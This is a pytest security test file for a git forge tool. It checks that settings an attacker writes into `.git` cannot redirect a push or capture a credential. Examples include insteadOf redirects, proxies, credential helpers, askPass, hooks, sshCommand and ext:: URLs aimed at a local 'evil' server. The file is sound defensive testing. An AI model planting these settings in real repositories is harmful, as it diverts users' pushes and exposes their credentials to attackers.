"""What a player may write into `.git` to send a push elsewhere or to get a credential: it works on git, not on us."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from touchline.forge import Forge, ForgeCapability, ForgeSettings, LocalForgeHost, RepositoryId, Secret
from touchline.git.fingerprint import compare_fingerprints, take_fingerprint
from touchline.git.repository import Repository
from touchline.testing.forges import GitHttpServer, make_hosted, write_ssh_program
from touchline_forges.generic import GenericForge

TOKEN = "tok-6b1f2c-very-secret"


class Server(GitHttpServer):
    """A host that keeps every credential it is shown."""

    def __init__(self, root: Path, *, token: str = "") -> None:
        super().__init__(root, token=token)
        self.authorizations: list[str] = []

    def answer(self, request: BaseHTTPRequestHandler) -> None:
        self.authorizations += [request.headers[name] for name in request.headers if name.lower() == "authorization"]
        super().answer(request)


@dataclass
class Scene:
    """A project whose remote is `host`; `evil` is where an attack would like the push to go."""

    repo: Path
    host: Server
    evil: Server
    hosted: Path
    sprung: Path

    @property
    def url(self) -> str:
        return f"{self.host.url}/widget.git"

    def git(self, *argv: str) -> str:
        done = subprocess.run(["git", *argv], cwd=self.repo, check=True, capture_output=True, timeout=30)
        return done.stdout.decode().strip()

    def config(self, *argv: str) -> None:
        self.git("config", *argv)

    def trap(self, name: str) -> str:
        """A program that leaves a trace when it runs."""
        self.sprung.mkdir(exist_ok=True)
        place = self.repo.parent / f"trap-{name}"
        place.write_text(f"#!/bin/sh\necho x >> '{self.sprung}/{name}'\nexit 1\n")
        place.chmod(0o755)
        return str(place)

    @property
    def caught(self) -> bool:
        """Whether the attack got anything: a request, or a program of its own run."""
        return bool(self.evil.requests) or (self.sprung.is_dir() and any(self.sprung.iterdir()))

    def tip(self, branch: str) -> str:
        done = subprocess.run(
            ["git", "rev-parse", "--verify", "-q", branch],
            cwd=self.hosted,
            capture_output=True,
            timeout=30,
            check=False,
        )
        return done.stdout.decode().strip()


@pytest.fixture
def scene(repo: Path, tmp_path: Path) -> Iterator[Scene]:
    hosted = make_hosted(tmp_path / "srv" / "widget.git")
    make_hosted(tmp_path / "evil" / "widget.git")
    with Server(tmp_path / "srv", token=TOKEN) as host, Server(tmp_path / "evil") as evil:
        made = Scene(repo, host, evil, hosted, tmp_path / "sprung")
        made.git("remote", "add", "up", made.url)
        made.git("commit", "-q", "--allow-empty", "-m", "work")
        yield made


def include(scene: Scene) -> None:
    (scene.repo.parent / "included").write_text(f'[url "{scene.evil.url}/"]\n\tinsteadOf = {scene.host.url}/\n')
    scene.config("include.path", str(scene.repo.parent / "included"))


def worktree_config(scene: Scene) -> None:
    scene.config("extensions.worktreeConfig", "true")
    scene.config("--worktree", f"url.{scene.evil.url}/.insteadOf", f"{scene.host.url}/")


def hook(scene: Scene) -> None:
    place = scene.repo / ".git" / "hooks" / "pre-push"
    place.parent.mkdir(exist_ok=True)
    place.write_text(Path(scene.trap("hook")).read_text())
    place.chmod(0o755)


def hooks_path(scene: Scene) -> None:
    folder = scene.repo.parent / "hooks"
    folder.mkdir()
    (folder / "pre-push").write_text(Path(scene.trap("hooksPath")).read_text())
    (folder / "pre-push").chmod(0o755)
    scene.config("core.hooksPath", str(folder))


def program_url(scene: Scene) -> None:
    scene.config(f"url.ext::{scene.trap('ext')} .insteadOf", f"{scene.host.url}/")
    scene.config("protocol.ext.allow", "always")


def remote_proxy(scene: Scene) -> None:
    scene.config("remote.up.proxy", scene.evil.url)
    scene.config(f"remote.{scene.url}.proxy", scene.evil.url)


def alternate_refs(scene: Scene) -> None:
    scene.config("core.alternateRefsCommand", scene.trap("alternates"))
    (scene.repo / ".git/objects/info").mkdir(exist_ok=True)
    (scene.repo / ".git/objects/info/alternates").write_text(f"{scene.hosted}/objects\n")


ATTACKS: dict[str, Callable[[Scene], None]] = {
    "url.insteadOf": lambda s: s.config(f"url.{s.evil.url}/.insteadOf", f"{s.host.url}/"),
    "url.pushInsteadOf": lambda s: s.config(f"url.{s.evil.url}/.pushInsteadOf", f"{s.host.url}/"),
    "url of a program": program_url,
    "remote.pushurl": lambda s: s.config("remote.up.pushurl", f"{s.evil.url}/widget.git"),
    "remote.url": lambda s: s.config("remote.up.url", f"{s.evil.url}/widget.git"),
    "a remote that is called like the URL": lambda s: s.config(f"remote.{s.url}.url", f"{s.evil.url}/widget.git"),
    "http.proxy": lambda s: s.config("http.proxy", s.evil.url),
    "http.proxy of one host": lambda s: s.config(f"http.{s.host.url}.proxy", s.evil.url),
    "remote.proxy": remote_proxy,
    "credential.helper": lambda s: s.config("credential.helper", s.trap("helper")),
    "credential.helper of one host": lambda s: s.config(f"credential.{s.host.url}.helper", s.trap("host-helper")),
    "core.askPass": lambda s: s.config("core.askPass", s.trap("askpass")),
    "include.path": include,
    "config.worktree": worktree_config,
    "hooks/pre-push": hook,
    "core.hooksPath": hooks_path,
}


def plain_push(scene: Scene, url: str) -> None:
    """What a person's own git does after the attack, asked for the credential of the host."""
    helper = '!f() { test "$1" = get && echo username=me && echo "password=$TOKEN"; }; f'
    subprocess.run(
        ["git", "-c", f"credential.helper={helper}", "push", url, "HEAD:refs/heads/plain"],
        cwd=scene.repo,
        env={**os.environ, "TOKEN": TOKEN, "GIT_TERMINAL_PROMPT": "0"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=30,
        check=False,
    )


@pytest.mark.parametrize("name", ATTACKS)
def test_no_setting_that_a_player_writes_redirects_a_push_or_gets_a_credential(scene: Scene, name: str) -> None:
    opened = Repository.open(scene.repo)
    forge: Forge = GenericForge(ForgeSettings(token=Secret(TOKEN)), LocalForgeHost(opened))
    target = forge.identify(scene.url)
    assert isinstance(target, RepositoryId)
    forge.preflight([ForgeCapability.PUSH], repo=target)
    before = take_fingerprint(opened)
    ATTACKS[name](scene)
    sha = scene.git("rev-parse", "HEAD")
    assert forge.push(target, sha, "feature").moved
    assert scene.tip("feature") == sha
    assert forge.fetch_branch(target, "main") == scene.tip("main")
    assert not scene.caught
    assert compare_fingerprints(before, take_fingerprint(opened)), "the change is noticed"


@pytest.mark.parametrize("name", ATTACKS)
def test_the_same_attack_works_on_plain_git(scene: Scene, name: str) -> None:
    ATTACKS[name](scene)
    for url in ("up", scene.url):
        plain_push(scene, url)
    if name == "core.askPass":  # asked only where no helper knows the credential
        subprocess.run(["git", "fetch", "up"], cwd=scene.repo, capture_output=True, timeout=30, check=False)
    assert scene.caught


SSH_ATTACKS: dict[str, Callable[[Scene], None]] = {
    "core.sshCommand": lambda s: s.config("core.sshCommand", s.trap("ssh")),
    "remote.receivepack": lambda s: s.config("remote.up.receivepack", s.trap("receivepack")),
    "core.alternateRefsCommand": alternate_refs,
}


@pytest.mark.parametrize("name", SSH_ATTACKS)
def test_no_program_that_a_player_names_runs_in_a_push_over_ssh(scene: Scene, name: str, tmp_path: Path) -> None:
    program, _ = write_ssh_program(tmp_path)
    subprocess.run(["git", "config", "--global", "core.sshCommand", str(program)], check=True, timeout=30)
    subprocess.run(["git", "config", "--global", "ssh.variant", "ssh"], check=True, timeout=30)
    url = f"ssh://git@host.invalid{scene.hosted}"
    scene.git("remote", "set-url", "up", url)
    forge: Forge = GenericForge(ForgeSettings(), LocalForgeHost(Repository.open(scene.repo)))
    target = forge.identify(url)
    assert isinstance(target, RepositoryId)
    forge.preflight([ForgeCapability.PUSH], repo=target)
    SSH_ATTACKS[name](scene)
    sha = scene.git("rev-parse", "HEAD")
    assert forge.push(target, sha, "feature").moved
    assert forge.fetch_branch(target, "main") == scene.tip("main")
    assert not scene.caught
    subprocess.run(["git", "push", "up", "HEAD:refs/heads/plain"], cwd=scene.repo, capture_output=True, timeout=30)
    subprocess.run(["git", "fetch", "up"], cwd=scene.repo, capture_output=True, timeout=30)
    assert scene.caught, "on plain git the attack works"


def test_what_the_user_set_for_http_before_the_run_stays_in_force(scene: Scene) -> None:
    scene.config(f"http.{scene.host.url}.extraHeader", "Authorization: Basic " + "eDp0b2stNmIxZjJjLXZlcnktc2VjcmV0")
    forge: Forge = GenericForge(ForgeSettings(), LocalForgeHost(Repository.open(scene.repo)))
    target = forge.identify(scene.url)
    assert isinstance(target, RepositoryId)
    assert forge.default_target(target) == "main"
    scene.config("--unset", f"http.{scene.host.url}.extraHeader")
    assert forge.default_target(target) == "main", "what the player takes away does not count either"
